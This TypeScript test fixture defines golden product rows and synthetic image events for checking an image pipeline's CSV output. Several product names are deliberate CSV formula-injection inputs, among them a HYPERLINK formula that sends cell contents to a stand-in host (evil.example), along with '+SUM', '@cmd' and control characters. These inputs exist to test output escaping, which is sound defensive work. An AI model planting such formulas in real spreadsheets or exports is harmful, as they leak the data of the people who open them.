/**
 * The request behind the golden output CSVs in aggregator/test/golden: product names that are
 * spreadsheet formulas, a serial number starting with '-', control characters, quotes, commas,
 * non-ASCII, a line break, and failed images (one in the middle of a row, one alone).
 */
import {
  FIXTURE_REQUEST_ID,
  fixture,
  imageIdFor,
  type ImageCompressed,
  type ImageFailed,
  type RequestAccepted,
} from '@imgpipe/schemas';

interface GoldenImage {
  url: string;
  ok: boolean;
  ext?: string;
}
interface GoldenProduct {
  serial: string;
  name: string;
  images: GoldenImage[];
}

const one = (n: number, ok = true): GoldenImage[] => [
  { url: `https://cdn.example.com/p/${n}/a.jpg`, ok },
];

export const GOLDEN_PRODUCTS: readonly GoldenProduct[] = [
  {
    serial: '1',
    name: 'Trail Running Shoe',
    images: [
      { url: 'https://cdn.example.com/p/1/front.jpg', ok: true },
      { url: 'https://cdn.example.com/p/1/side.jpg', ok: false },
      { url: 'https://cdn.example.com/p/1/back.jpg', ok: true },
    ],
  },
  { serial: '2', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', images: one(2) },
  { serial: '-3', name: '+SUM(1,2)', images: one(3, false) },
  { serial: '4', name: '@cmd', images: one(4) },
  { serial: '5', name: '\tTabbed', images: one(5) },
  { serial: '6', name: '\rCarriage', images: one(6) },
  { serial: '7', name: '\0Nul', images: one(7) },
  { serial: '8', name: 'Café "Crème", 250 g', images: one(8) },
  { serial: '9', name: '\uFF1Dfullwidth', images: one(9) },
  { serial: '10', name: 'Line\nbreak', images: one(10) },
];

export interface GoldenEvents {
  accepted: RequestAccepted;
  results: (
    | { name: 'ImageCompressed'; value: ImageCompressed }
    | {
        name: 'ImageFailed';
        value: ImageFailed;
      }
  )[];
}

/** The golden request's events, for any request id (the golden files use the fixture id). */
export function goldenEvents(
  requestId: string = FIXTURE_REQUEST_ID,
  products: readonly GoldenProduct[] = GOLDEN_PRODUCTS,
): GoldenEvents {
  const total = products.reduce((n, p) => n + p.images.length, 0);
  const accepted = fixture('RequestAccepted', {
    requestId,
    products: products.length,
    images: total,
    inputCsvKey: `inputs/${requestId}.csv`,
  });
  const results: GoldenEvents['results'] = [];
  products.forEach((product, productIndex) => {
    product.images.forEach((image, imageIndex) => {
      const ref = {
        requestId,
        imageId: imageIdFor(requestId, productIndex, imageIndex),
        productIndex,
        imageIndex,
        serialNumber: product.serial,
        productName: product.name,
        inputUrl: image.url,
        occurredAt: accepted.occurredAt + 1000 + results.length,
      };
      if (image.ok) {
        const ext = image.ext ?? 'jpg';
        results.push({
          name: 'ImageCompressed',
          value: fixture('ImageCompressed', {
            ...ref,
            eventId: imageIdFor(requestId, productIndex + 1000, imageIndex),
            outputKey: `outputs/${requestId}/${productIndex + 1}-${imageIndex + 1}.${ext}`,
            outputUrl: `http://127.0.0.1:8080/images/${requestId}/${productIndex + 1}/${imageIndex + 1}`,
          }),
        });
      } else {
        results.push({
          name: 'ImageFailed',
          value: fixture('ImageFailed', {
            ...ref,
            eventId: imageIdFor(requestId, productIndex + 1000, imageIndex),
            message: `GET ${image.url} answered 404 Not Found`,
          }),
        });
      }
    });
  });
  return { accepted, results };
}

/** Two images, the second as webp: the golden file for OUTPUT_PUBLIC_BASE_URL. */
export const PUBLIC_BASE_PRODUCTS: readonly GoldenProduct[] = [
  {
    serial: '1',
    name: 'Trail Running Shoe',
    images: [
      { url: 'https://cdn.example.com/p/1/front.jpg', ok: true },
      { url: 'https://cdn.example.com/p/1/side.jpg', ok: true, ext: 'webp' },
    ],
  },
];
